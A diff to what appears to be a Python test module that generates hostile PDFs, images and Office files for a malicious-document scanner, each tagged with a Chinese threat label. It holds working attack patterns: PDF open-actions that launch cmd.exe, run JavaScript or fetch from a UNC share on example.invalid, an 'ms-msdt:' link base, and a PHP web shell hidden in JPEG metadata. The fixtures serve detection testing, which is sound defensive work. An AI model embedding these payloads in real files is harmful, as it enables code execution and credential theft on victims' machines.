@@ -14,7 +14,7 @@ import pikepdf
 
 from .building import Office, chunk, jpeg_with, office, picture, png_with, raw_pdf, saved_pdf, stream, zipped
 from .everyday import external_book, report_pdf, sheet, slides, template, with_field, word
-from .hostile_office import ANY_TRICKS, ARCHIVES, BOOK_TRICKS, LINKS, NET, OLE, SLIDE_TRICKS, WORD_TRICKS
+from .hostile_office import ANY_TRICKS, ARCHIVES, BOOK_TRICKS, LINKS, NET, OLE, PICTURED, SLIDE_TRICKS, WORD_TRICKS
 
 
 def _restricted(user: str = "") -> bytes:
@@ -90,6 +90,13 @@ PDFS: dict[str, tuple[Callable[[], bytes], str]] = {
     "another file when opened": (lambda: action(b"<< /S /GoToR /F (b.pdf) /D [0 /Fit] >>"), "自动执行"),
     "a file on a share (BadPDF)": (lambda: raw_pdf(b"<< /S /GoToR /F (\\\\\\\\example.invalid\\\\a) /D [0 /Fit] >>").replace(b"/MediaBox", b"/AA << /O 4 0 R >> /MediaBox"), "外部文件"),
     "a file on a share by a link": (lambda: on_page(b"<< /S /GoToR /F << /F (\\\\\\\\example.invalid\\\\a) >> /D [0 /Fit] >>"), "外部文件"),
+    "a film of a share when opened": (lambda: action(b"<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /F (\\\\\\\\example.invalid\\\\a) >> >> >> >>"), "外部文件"),
+    "a page of another file, shown in this one": (lambda: raw_pdf(stream(b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (\\\\\\\\example.invalid\\\\a.pdf) /Page 0 >>", b"")), "外部文件"),
+    "a picture to be had elsewhere (OPI)": (lambda: raw_pdf(stream(b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /OPI << /1.3 << /F (https://example.invalid/a) >> >>", b"")), "外部文件"),
+    "a base for all links": (lambda: raw_pdf(catalog=b"/URI << /Base (ms-msdt:) >>"), "启动程序"),
+    "a command of the reader when opened": (lambda: action(b"<< /S /Named /N /AcroSendMail:SendMail >>"), "自动执行"),
+    "a script under a name elsewhere": (lambda: raw_pdf(b"<< /S 5 0 R /JS (x) >>", b"/JavaScript", catalog=b"/OpenAction 4 0 R"), "脚本"),
+    "a program under a name elsewhere": (lambda: raw_pdf(b"<< /S 5 0 R /F (cmd.exe) >>", b"/Launch", catalog=b"/OpenAction 4 0 R"), "启动程序"),
     "a form that is sent": (lambda: on_page(b"<< /S /SubmitForm /F (https://example.invalid) >>"), "发送表单"),
     "a form that is filled": (lambda: on_page(b"<< /S /ImportData /F (a.fdf) >>"), "自动取数"),
     "an embedded file opened": (lambda: action(b"<< /S /GoToE /T << /N (a) /R /C >> >>"), "嵌入的文件"),
@@ -175,6 +182,8 @@ PICTURES: dict[str, tuple[str, Callable[[], bytes], str]] = {
     "a PDF after a PNG": ("a.png", lambda: picture() + raw_pdf(), ""),
     "a ZIP in a PNG": ("a.png", lambda: png_with(chunk(b"zzZz", zipped({"a": b"b"}))), "藏有另一个文件"),
     "a ZIP after a PNG": ("a.png", lambda: picture() + zipped({"a": b"b"}), "藏有另一个文件"),
+    "a RAR in a PNG": ("a.png", lambda: png_with(chunk(b"zzZz", b"Rar!\x1a\x07\x00" + bytes(90))), "藏有另一个文件"),
+    "a program in a JPEG": ("a.jpg", lambda: jpeg_with(0xEF, b"MZ\x90\0" + bytes(90)), "藏有另一个文件"),
     "PHP in a JPEG's words": ("a.jpg", lambda: jpeg_with(0xFE, b"<?php system($_GET[0]); ?>"), "程序代码"),
     "PHP in a JPEG's place and time": ("a.jpg", lambda: jpeg_with(0xE1, b"Exif\0\0<?php eval($x) ?>"), "程序代码"),
     "a script in a PNG's words": ("a.png", lambda: png_with(chunk(b"tEXt", b"Comment\0<script>alert(1)</script>")), "程序代码"),
@@ -232,7 +241,7 @@ def _played(trick: Callable[[Office], object], on: Callable[[], bytes]) -> Calla
 HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
     **{f"name: {what}": one for what, one in NAMES.items()},
     **{f"picture: {what}": one for what, one in PICTURES.items()},
-    **{f"docx: {what}": ("a.docx", _played(trick, word), why) for what, (trick, why) in WORD_TRICKS.items() if what not in LINKS},
+    **{f"docx: {what}": ("a.docx", _played(trick, word), why) for what, (trick, why) in WORD_TRICKS.items() if what not in LINKS | PICTURED},
     **{f"xlsx: {what}": ("a.xlsx", _played(trick, sheet), why) for what, (trick, why) in BOOK_TRICKS.items() if what not in ANY_TRICKS},
     **{f"pptx: {what}": ("a.pptx", _played(trick, slides), why) for what, (trick, why) in SLIDE_TRICKS.items() if what not in ANY_TRICKS},
     **{f"archive: {what}": ("a.docx", (lambda change=change: change(word())), why) for what, (change, why) in ARCHIVES.items()},
